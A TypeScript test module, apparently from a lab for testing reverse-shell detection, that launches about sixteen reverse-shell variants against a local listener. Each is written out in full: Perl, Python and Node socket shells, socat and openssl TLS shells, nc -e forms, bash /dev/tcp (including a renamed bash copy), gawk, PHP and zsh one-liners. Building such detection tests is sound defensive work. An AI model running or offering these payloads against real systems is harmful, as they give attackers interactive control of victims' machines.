// More programs that take commands from outside: other interpreters, TLS, helpers, programs that run each line as a child.
import { copyFileSync, existsSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import type { Case } from "../case.js"
import { firstUseUs, pidOf, stopAll } from "../case.js"
import { addresses } from "../network.js"
import { waitForSuccess } from "../processes.js"

let nextPort = 18700
const outside = addresses.outside

interface Shell {
  readonly name: string
  readonly exe: RegExp
  readonly needs?: readonly string[]
  readonly isTls?: boolean
  /** Key by key. */
  readonly isTyped?: boolean
  readonly command: (port: number, folder: string) => readonly [string, ...string[]]
}

function shell({ name, exe, needs = [], isTls = false, isTyped = false, command }: Shell): Case {
  return {
    name,
    finds: { class: ["reverse_shell"], exe },
    needs,
    run: async ({ network, certificate }) => {
      const port = nextPort++
      const how = [...(isTls ? [certificate] : []), ...(isTyped ? ["keys"] : [])]
      const typist = await network.serve("outside", "typist.py", `${port}`, ...how)
      const [program, ...args] = command(port, network.folder)
      const client = network.start("inside", "env", `HOME=${network.folder}`, program, ...args)
      const firstUs = await firstUseUs(typist)
      await waitForSuccess(typist)
      return { pids: [pidOf(client)], firstUs, tunnelPorts: [port], end: stopAll(client) }
    },
  }
}

/** A program of its own in the lab's folder. */
function script(folder: string, name: string, text: string): string {
  const path = join(folder, name)
  if (!existsSync(path)) writeFileSync(path, text)
  return path
}

const perl = (port: number): string =>
  `use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(${port},inet_aton("${outside}")));` +
  `open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`

const eachLine = `import socket, subprocess, sys
connection = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for line in connection.makefile("r"):
    if line.strip() == "exit":
        break
    done = subprocess.run(line, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    connection.sendall(done.stdout + b"$ ")
`

const nodeShell = `const { spawn } = require("node:child_process"), net = require("node:net")
const connection = net.connect(Number(process.argv[3]), process.argv[2], () => {
  const shell = spawn("/bin/sh", ["-i"])
  connection.pipe(shell.stdin)
  shell.stdout.pipe(connection)
  shell.stderr.pipe(connection)
  shell.on("exit", () => connection.end())
})
`

const nodeLines = `const { execSync } = require("node:child_process"), net = require("node:net"), readline = require("node:readline")
const connection = net.connect(Number(process.argv[3]), process.argv[2])
readline.createInterface({ input: connection }).on("line", (line) => {
  if (line === "exit") return connection.end()
  connection.write(execSync(line + " 2>&1 || true"))
})
`

const terminalInTls = `import os, pty, select, socket, ssl, sys
context = ssl._create_unverified_context()
connection = context.wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2]))))
child, master = pty.fork()
if child == 0:
    os.execvp("bash", ["bash", "--norc"])
while True:
    ready = select.select([connection, master], [], [])[0]
    try:
        if connection in ready:
            keys = connection.recv(4096)
            if not keys:
                break
            os.write(master, keys)
        if master in ready:
            connection.sendall(os.read(master, 4096))
    except OSError:
        break
`

export const shellForms: readonly Case[] = [
  shell({
    name: "python with a pty in TLS, typed key by key",
    exe: /python3|bash/,
    isTls: true,
    isTyped: true,
    command: (port, folder) => ["/usr/bin/python3", script(folder, "terminal.py", terminalInTls), outside, `${port}`],
  }),
  shell({
    name: "socat in TLS with a pty, typed key by key",
    exe: /socat|bash/,
    isTls: true,
    isTyped: true,
    command: (port) => ["socat", `OPENSSL:${outside}:${port},verify=0`, "EXEC:bash --norc,pty,stderr,setsid"],
  }),
  shell({ name: "perl", exe: /perl|sh$/, command: (port) => ["perl", "-e", perl(port)] }),
  shell({
    name: "python that runs each line as a child",
    exe: /python3|sh$/,
    command: (port, folder) => ["/usr/bin/python3", script(folder, "lines.py", eachLine), outside, `${port}`],
  }),
  shell({
    name: "bash by another name",
    exe: /worker-main/,
    command: (port, folder) => {
      const program = join(folder, "worker-main")
      if (!existsSync(program)) copyFileSync("/bin/bash", program)
      return [program, "-c", `exec ${program} >& /dev/tcp/${outside}/${port} 0>&1`]
    },
  }),
  shell({
    name: "openssl with a FIFO",
    exe: /openssl|sh$/,
    isTls: true,
    command: (port, folder) => {
      const pipe = join(folder, `tls-${port}`)
      const tls = `openssl s_client -quiet -connect ${outside}:${port} 2>/dev/null`
      return ["sh", "-c", `mkfifo ${pipe}; sh -i < ${pipe} 2>&1 | ${tls} > ${pipe}`]
    },
  }),
  shell({
    name: "socat in TLS with pipes",
    exe: /socat|bash/,
    isTls: true,
    command: (port) => ["socat", `OPENSSL:${outside}:${port},verify=0`, "EXEC:bash,pipes,stderr"],
  }),
  shell({
    name: "node with a shell behind pipes",
    exe: /node|sh$/,
    command: (port, folder) => [process.execPath, script(folder, "shell.cjs", nodeShell), outside, `${port}`],
  }),
  shell({
    name: "node that runs each line as a child",
    exe: /node|sh$/,
    command: (port, folder) => [process.execPath, script(folder, "lines.cjs", nodeLines), outside, `${port}`],
  }),
  shell({
    name: "ncat -e",
    exe: /ncat|sh$/,
    needs: ["ncat"],
    command: (port) => ["ncat", "-e", "/bin/sh", outside, `${port}`],
  }),
  shell({
    name: "busybox nc -e",
    exe: /busybox|sh$/,
    needs: ["busybox"],
    command: (port) => ["busybox", "nc", outside, `${port}`, "-e", "/bin/sh"],
  }),
  shell({
    name: "nc.traditional -e",
    exe: /nc|sh$/,
    needs: ["nc.traditional"],
    command: (port) => ["nc.traditional", "-e", "/bin/sh", outside, `${port}`],
  }),
  shell({
    name: "gawk's coprocess",
    exe: /gawk|sh$/,
    needs: ["gawk"],
    command: (port) => [
      "gawk",
      `BEGIN{s="/inet/tcp/0/${outside}/${port}";while((s|&getline c)>0){while((c" 2>&1"|getline l)>0)print l|&s;close(c" 2>&1")}}`,
    ],
  }),
  shell({
    name: "php with a shell on its socket",
    exe: /php|sh$/,
    needs: ["php"],
    command: (port) => [
      "php",
      "-r",
      `$s=fsockopen("${outside}",${port});$p=proc_open("/bin/sh -i",[$s,$s,$s],$x);proc_close($p);`,
    ],
  }),
  shell({
    name: "zsh on a socket of its module",
    exe: /zsh/,
    needs: ["zsh"],
    command: (port) => [
      "zsh",
      "-fc",
      `zmodload zsh/net/tcp; ztcp ${outside} ${port}; exec zsh -f <&$REPLY >&$REPLY 2>&1`,
    ],
  }),
  shell({
    name: "bash on its own descriptors, a line at a time",
    exe: /bash/,
    command: (port) => [
      "bash",
      "-c",
      `exec 5<>/dev/tcp/${outside}/${port}; while read -r line <&5; do [ "$line" = exit ] && break; eval "$line" >&5 2>&1; done`,
    ],
  }),
]
